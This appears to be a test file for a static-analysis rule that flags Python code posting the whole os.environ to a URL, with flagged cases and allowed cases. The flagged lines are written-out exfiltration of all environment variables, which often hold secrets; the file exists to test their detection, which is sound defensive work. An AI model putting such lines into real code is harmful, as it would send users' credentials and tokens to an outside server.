import os, requests
# ruleid: py_sends_environment
requests.post(URL, json=dict(os.environ), timeout=3)
# ruleid: py_sends_environment
requests.post(URL, data=os.environ.copy())
# ok: py_sends_environment
requests.post(URL, json={'ci': os.environ.get('CI')})
# ok: py_sends_environment
subprocess.run(cmd, env=dict(os.environ))
